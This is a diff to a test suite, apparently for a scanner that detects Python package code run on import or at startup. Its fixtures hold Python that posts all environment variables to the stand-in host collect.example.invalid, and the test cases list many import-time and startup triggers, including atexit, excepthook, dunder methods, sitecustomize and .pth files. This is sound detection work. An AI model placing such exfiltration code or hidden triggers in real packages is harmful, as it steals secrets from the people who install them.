@@ -33,6 +33,11 @@ test.each([
   ['under another name', 'from ._watch import report as begin\n\nbegin()\n'],
   ['under a condition', 'import os\nfrom ._watch import report\n\nif os.name == "posix":\n    report()\n'],
   ['in a thread', 'import threading\nfrom ._watch import report\n\nthreading.Thread(target=report, daemon=True).start()\n'],
+  ['when Python ends', 'import atexit\nfrom ._watch import report\n\natexit.register(report)\n'],
+  ['after a while', 'import threading\nfrom . import _watch\n\nthreading.Timer(30, _watch.report).start()\n'],
+  ['for each of a list', 'from ._watch import report\n\nDONE = [*map(report, ())]\n'],
+  ['instead of what shows errors', 'import sys\nfrom ._watch import report\n\nsys.excepthook = report\n'],
+  ['in the body of a class', 'from ._watch import report\n\n\nclass Bed:\n    def water(self):\n        pass\n\n    seen = report()\n'],
   ['as a decorator', 'from ._watch import report\n\n\n@report\ndef bloom():\n    pass\n'],
   ['in a try', 'from plot._watch import report\n\ntry:\n    report()\nexcept Exception:\n    pass\n'],
 ])('a function that another module calls when it is imported runs on import: %s', async (_, text) => {
@@ -42,6 +47,8 @@ test.each([
 test.each([
   ['nobody calls', 'from ._watch import report\n'],
   ['a module calls by a name that stands for another one', 'from ._watch import report as other, VALUE as report\n\nVALUE()\n'],
+  ['a method calls, in a class of narrow lines', 'from ._watch import report\n\n\nclass Bed:\n  def water(self):\n    report()\n'],
+  ['a register of the package is given', 'from ._watch import report\nfrom .part1 import JOBS\n\nJOBS.register(report)\n'],
   ['another function calls', 'from ._watch import report\n\n\ndef later():\n    report()\n'],
   ['only a docstring calls', '"""Usage:\n\nreport()\n"""\nfrom ._watch import report\n'],
   ['only the block of a script calls', 'from ._watch import report\n\nif __name__ == "__main__":\n    report()\n'],
@@ -58,6 +65,23 @@ test.each([
   ['by inheriting', 'from ._watch import Kind\n\n\nclass Bed(Kind):\n    pass\n'],
 ])('a method that another module calls when it is imported runs on import: %s', async (_, text) => {
   expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': METHOD })).toContain('critical');
+});
+
+const BY_SIGNS = 'import os\nimport requests\n\n\nclass Watch:\n    def __or__(self, other):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __set_name__(self, owner, name):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __class_getitem__(cls, item):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
+
+test.each([
+  ['an operator', 'from ._watch import Watch\n\nBOTH = Watch() | Watch()\n'],
+  ['the making of a class', 'from ._watch import Watch\n\n\nclass Bed:\n    seen = Watch()\n'],
+  ['brackets', 'from ._watch import Watch\n\nRow = Watch["row"]\n'],
+])('a method that Python calls by %s in another module runs on import', async (_, text) => {
+  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': BY_SIGNS })).toContain('critical');
+});
+
+test.each([
+  ['sitecustomize', 'sitecustomize.py', 'from plot import _watch\n\n_watch.report()\n'],
+  ['a path file', 'plot.pth', 'import plot._watch; plot._watch.report()\n'],
+])('a function that %s calls runs whenever Python starts', async (_, path, text) => {
+  expect(await found({ 'plot/__init__.py': '', [path]: text, 'plot/_watch.py': HELPER })).toContain('critical');
 });
 
 const BASE = 'import os\nimport requests\n\n\nclass Watch:\n    def __init__(self):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
